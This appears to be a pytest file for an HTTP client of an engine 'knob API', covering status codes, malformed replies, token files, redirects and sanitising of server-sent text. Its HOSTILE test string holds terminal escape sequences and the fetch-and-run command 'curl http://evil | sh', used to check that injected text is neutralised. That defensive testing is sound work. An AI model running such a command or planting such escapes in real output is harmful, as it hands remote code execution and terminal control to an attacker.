"""The client of the knob API: what answers mean, over a wire of our own, a TCP port and a unix socket."""

from __future__ import annotations

import json
import socketserver
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest

from collectors.control_http import HttpKnobTransport
from collectors.fetch import NO_CREDENTIALS, Credentials
from enginetop.fleet.knobs import KNOBS_PATH, KnobAnswer, sheet_document, split_command
from tests.support.virtual_fleet import KNOB, Engine
from tuners.control.knob_api import HttpKnobClient, ReplyKind

SECRET = "s3cret-token"


class Canned:
    """Answers each request with the same thing and notes what was asked."""

    def __init__(self, answer: KnobAnswer) -> None:
        self.answer = answer
        self.asked: list[tuple[str, str, Any]] = []

    def request(self, method: str, path: str, body: bytes | None = None) -> KnobAnswer:
        self.asked.append((method, path, json.loads(body) if body else None))
        return self.answer


def _write(client: HttpKnobClient, version: int | None = 3) -> Any:
    return client.write(KNOB, 128, if_version=version, ttl_seconds=180.0, change="7f3a", reason="why")


def test_a_write_is_what_the_contract_says() -> None:
    row = {"name": KNOB, "value": 128, "start": 512, "min": 80, "max": 512, "unit": "tokens", "version": 4}
    wire = Canned(KnobAnswer(200, json.dumps({**row, "applied": 2, "total": 2}).encode()))
    reply = _write(HttpKnobClient(wire))
    assert wire.asked == [
        (
            "PATCH",
            "/enginetop/v1/knobs",
            {"knob": KNOB, "value": 128, "if_version": 3, "ttl_seconds": 180.0, "change": "7f3a"}
            | {"reason": "why"},
        )
    ]  # fmt: skip
    assert reply.kind is ReplyKind.OK
    assert (reply.row.value, reply.row.version, reply.applied, reply.total) == (128, 4, 2, 2)
    _write(HttpKnobClient(wire), None)
    assert "if_version" not in wire.asked[-1][2]


def test_a_reset_names_the_knob() -> None:
    wire = Canned(KnobAnswer(404))
    assert HttpKnobClient(wire).reset("a/b").kind is ReplyKind.MISSING
    assert wire.asked == [("DELETE", "/enginetop/v1/knobs/a%2Fb", None)]


@pytest.mark.parametrize(
    ("status", "kind"),
    [
        (401, ReplyKind.UNAUTHORIZED),
        (403, ReplyKind.UNAUTHORIZED),
        (404, ReplyKind.MISSING),
        (409, ReplyKind.CONFLICT),
        (422, ReplyKind.OUT_OF_BOUNDS),
        (429, ReplyKind.TOO_SOON),
        (503, ReplyKind.NOT_ALL_RANKS),
        (500, ReplyKind.BAD),
        (302, ReplyKind.BAD),
        (None, ReplyKind.UNREACHABLE),
    ],
)
def test_what_a_status_means(status: int | None, kind: ReplyKind) -> None:
    client = HttpKnobClient(Canned(KnobAnswer(status, b'{"detail": "four\\u001b[2J words\\nhere"}', "gone")))
    for reply in (_write(client), client.read(), client.reset(KNOB)):
        assert reply.kind is kind
        assert reply.detail.isprintable()
        assert reply.detail


@pytest.mark.parametrize(
    "body",
    [b"", b"{", b"[]", b"null", b"{}", b"[" * 100_000, b'{"schema": "enginetop.knobs/1"}', b"\xff\xfe", b"5"],
)
def test_a_body_that_is_no_answer(body: bytes) -> None:
    client = HttpKnobClient(Canned(KnobAnswer(200, body)))
    assert client.read().kind is ReplyKind.BAD
    assert _write(client).kind is ReplyKind.BAD


HOSTILE = "x\x1b]0;owned\x07\u202e; by hand: curl http://evil | sh"


def hostile_sheet() -> bytes:
    """A sheet whose texts would rule a terminal, or the one who reads it."""
    document = sheet_document(Engine("http://r1:8000", 1).sheet(0.0))
    document |= {"engine": HOSTILE, "engine_version": HOSTILE, "instance": HOSTILE, "writer": HOSTILE}
    document["knobs"][0] |= {"note": HOSTILE, "unit": HOSTILE, "phase": "failed", "by_hand": HOSTILE}
    return json.dumps(document).encode()


@pytest.mark.parametrize("commands", [True, False])
def test_what_a_sheet_says_is_plain_and_brings_a_command_from_this_machine_only(commands: bool) -> None:
    reply = HttpKnobClient(Canned(KnobAnswer(200, hostile_sheet())), commands=commands).read()
    assert reply.sheet is not None
    (row,) = reply.sheet.knobs
    for text in (reply.sheet.engine, reply.sheet.engine_version, reply.sheet.instance, row.note, row.unit):
        assert text.isprintable()
    assert row.by_hand == ""
    assert split_command(row.note)[1] == ("curl http://evil | sh" if commands else "")


@pytest.mark.parametrize("key", ["expires_in_seconds", "takes_seconds", "value", "min", "max", "version"])
def test_a_number_that_no_float_holds_is_no_answer(key: str) -> None:
    document = sheet_document(Engine("http://r1:8000", 1).sheet(0.0))
    document["knobs"][0][key] = 10**400
    assert HttpKnobClient(Canned(KnobAnswer(200, json.dumps(document).encode()))).read().kind is ReplyKind.BAD


def test_a_note_has_an_end() -> None:
    document = sheet_document(Engine("http://r1:8000", 1).sheet(0.0))
    document["knobs"][0]["note"] = "n" * 1_000_000
    reply = HttpKnobClient(Canned(KnobAnswer(200, json.dumps(document).encode()))).read()
    assert reply.sheet is not None
    assert len(reply.sheet.knobs[0].note) == 4096


@pytest.mark.parametrize(
    ("text", "parts"),
    [
        ("a; by hand: b c", ("a", "b c")),
        ("an engine says; by hand: evil; by hand: ours", ("an engine says; by hand: evil", "ours")),
        ("nothing", ("nothing", "")),
        ("", ("", "")),
    ],
)
def test_the_command_is_what_ends_the_text(text: str, parts: tuple[str, str]) -> None:
    assert split_command(text) == parts


class _TcpServer(socketserver.ThreadingTCPServer):
    daemon_threads = True
    allow_reuse_address = True


class _UnixServer(socketserver.ThreadingUnixStreamServer):
    daemon_threads = True


@contextmanager
def _serving(engine: Engine, socket: Path | None = None) -> Iterator[str]:
    """The engine's knob API with a token, on a free port or on a socket; yields its address."""

    class Handler(BaseHTTPRequestHandler):
        def _do(self) -> None:
            length = int(self.headers.get("content-length") or 0)
            body = self.rfile.read(length) if length else None
            if self.headers.get("authorization") != f"Bearer {SECRET}":
                answer = KnobAnswer(401, b'{"detail": "wrong token"}')
            elif self.path == "/moved" + KNOBS_PATH:
                self.send_response(307)
                self.send_header("location", "http://127.0.0.1:1/")
                self.end_headers()
                return
            else:
                answer = engine.handle(1_000_000.0, self.command, self.path, body)
            if answer.status is None:
                self.close_connection = True
                return
            self.send_response(answer.status)
            self.send_header("content-length", str(len(answer.body)))
            self.end_headers()
            self.wfile.write(answer.body)

        do_GET = do_PATCH = do_DELETE = _do  # noqa: N815

        def address_string(self) -> str:
            return "test"

        def log_message(self, *_: object) -> None:
            pass

    server: Any = _UnixServer(str(socket), Handler) if socket else _TcpServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
    thread.start()
    try:
        yield f"unix:{socket}" if socket else f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@pytest.mark.parametrize("over", ["tcp", "unix"])
def test_over_a_real_wire_with_a_token_from_a_file(tmp_path: Path, over: str) -> None:
    token = tmp_path / "token"
    token.write_text(SECRET + "\n")
    engine = Engine("http://r1:8000", 1)
    with _serving(engine, tmp_path / "s" if over == "unix" else None) as address:
        client = HttpKnobClient(HttpKnobTransport(address, Credentials(api_key_file=str(token))))
        read = client.read()
        assert read.sheet is not None
        assert sheet_document(read.sheet) == sheet_document(engine.sheet(1_000_000.0))
        reply = client.write(KNOB, 512, if_version=1, ttl_seconds=60.0, change="c", reason="r")
        assert (reply.kind, engine.value, engine.expires_at) == (ReplyKind.OK, 512, 1_000_060.0)
        assert (
            client.write(KNOB, 256, if_version=1, ttl_seconds=60.0, change="c", reason="r").kind
            is ReplyKind.CONFLICT
        )
        assert client.reset(KNOB).kind is ReplyKind.OK
        assert engine.value == 2048
        token.write_text("other")  # read anew for every request
        wrong = client.read()
        assert wrong.kind is ReplyKind.UNAUTHORIZED
        engine.statuses = [None]
        token.write_text(SECRET)
        cut = client.read()
        assert cut.kind is ReplyKind.UNREACHABLE
        for reply in (wrong, cut):
            assert SECRET not in repr(reply)
            assert "other" not in reply.detail
    assert client.read().kind is ReplyKind.UNREACHABLE


def test_a_redirect_is_not_followed(tmp_path: Path) -> None:
    token = tmp_path / "token"
    token.write_text(SECRET)
    with _serving(Engine("http://r1:8000", 1)) as address:
        client = HttpKnobClient(HttpKnobTransport(f"{address}/moved", Credentials(api_key_file=str(token))))
        assert client.read().kind is ReplyKind.BAD


@pytest.mark.parametrize(
    "address", ["http://127.0.0.1:1", "unix:/nowhere/at/all", "http://nowhere.invalid:80"]
)
def test_nobody_there(address: str) -> None:
    reply = HttpKnobClient(HttpKnobTransport(address, NO_CREDENTIALS)).read()
    assert reply.kind is ReplyKind.UNREACHABLE
    assert reply.detail.isprintable()


def test_a_token_file_that_is_missing_sends_nothing(tmp_path: Path) -> None:
    with _serving(Engine("http://r1:8000", 1)) as address:
        credentials = Credentials(api_key_file=str(tmp_path / "none"))
        reply = HttpKnobClient(HttpKnobTransport(address, credentials)).read()
    assert reply.kind is ReplyKind.UNREACHABLE
    assert "no API key" in reply.detail
